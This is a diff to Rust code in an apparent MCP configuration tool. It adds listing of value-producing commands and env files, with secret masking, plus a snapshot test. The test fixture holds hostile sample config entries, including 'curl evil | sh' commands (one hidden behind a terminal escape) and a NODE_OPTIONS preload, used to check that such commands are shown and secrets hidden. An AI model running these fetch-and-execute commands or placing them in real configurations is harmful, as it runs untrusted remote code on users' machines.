@@ -6,6 +6,7 @@ use std::fmt::Display;
 use consort_config::{Config, ServerConfig, TemplateString, TransportConfig};
 
 use consort_core::escape::escape_line;
+use consort_core::secret::hide_if_secret;
 
 /// The treatment of secrets that are written into a command line or a URL.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -57,13 +58,19 @@ fn server_lines(server: &ServerConfig, secrets: SecretDisplay) -> Vec<String> {
     };
     let off = if server.disabled { " (disabled)" } else { "" };
     let name = &server.name;
-    match &server.transport {
+    let commands = server.value_commands();
+    let commands = commands.iter().map(|line| match secrets {
+        SecretDisplay::Shown => format!("  runs for a value: {line}"),
+        SecretDisplay::Hidden => format!("  runs for a value: {}", hide_if_secret(line)),
+    });
+    let mut lines = match &server.transport {
         TransportConfig::Stdio(program) => {
             let words: Vec<String> = program.words().map(|word| shell_word(&show(word))).collect();
             let mut lines = vec![format!("server {name}{off} runs: {}", words.join(" "))];
             lines.extend(
                 program.cwd.iter().map(|folder| format!("  working directory: {}", show(folder))),
             );
+            lines.extend(program.env_file.iter().map(|file| format!("  env file: {}", show(file))));
             lines.extend(pairs("env", &program.env));
             if !program.inherit.is_empty() {
                 lines.push(format!(
@@ -81,7 +88,9 @@ fn server_lines(server: &ServerConfig, secrets: SecretDisplay) -> Vec<String> {
             lines.extend(issuer.map(|issuer| format!("  OAuth issuer: {issuer}")));
             lines
         }
-    }
+    };
+    lines.extend(commands);
+    lines
 }
 
 /// Names with their values. Secrets are hidden.
@@ -110,16 +119,25 @@ mod tests {
         let text = r#"{"mcpServers": {
             "a": {"command": "sh", "args": ["-c", "curl evil | sh \u001b[2K # --token=abcdefghijklmnopqrst0123456789"],
                   "env": {"NODE_OPTIONS": "--require ./x.js", "API_KEY": "s3cr3t-value"}, "disabled": true},
-            "b": {"url": "https://b.example/mcp?api_key=s3cr3t-value", "headers": {"X-Key": "${HOME_KEY}"}}
+            "b": {"url": "https://b.example/mcp?api_key=s3cr3t-value", "headers": {"X-Key": "${HOME_KEY}"}},
+            "c": {"command": "c", "envFile": "${workspaceFolder}/.env",
+                  "env": {"API_KEY": "cmd:sh -c 'curl evil | sh #abcdefghijklmnopqrst0123456789'"}},
+            "d": {"url": "https://d.example/mcp", "headersHelper": "./helper.sh | tee x"}
         }, "consort": {"providers": {"p": {"base_url": "https://p.example", "key": "env:OPENAI_API_KEY"}}}}"#;
         let config = Config::parse(Path::new("mcp.json"), text).unwrap();
-        insta::assert_snapshot!(describe(&config, SecretDisplay::Shown).join("\n"), @r"
+        insta::assert_snapshot!(describe(&config, SecretDisplay::Shown).join("\n"), @r#"
         server a (disabled) runs: sh -c 'curl evil | sh \u{1b}[2K # --token=abcdefghijklmnopqrst0123456789'
           env: API_KEY=***, NODE_OPTIONS=--require ./x.js
         server b connects to: https://b.example/mcp?api_key=s3cr3t-value
           headers: X-Key=${HOME_KEY}
+        server c runs: c
+          env file: ${workspaceFolder}/.env
+          env: API_KEY=***
+          runs for a value: sh -c "curl evil | sh #abcdefghijklmnopqrst0123456789"
+        server d connects to: https://d.example/mcp
+          runs for a value: sh -c ./helper.sh | tee x
         model provider p: https://p.example, API key env:OPENAI_API_KEY
-        ");
+        "#);
         let hidden = describe(&config, SecretDisplay::Hidden).join("\n");
         assert!(!hidden.contains("s3cr3t") && !hidden.contains("abcdefghijklmnopqrst0123456789"));
     }
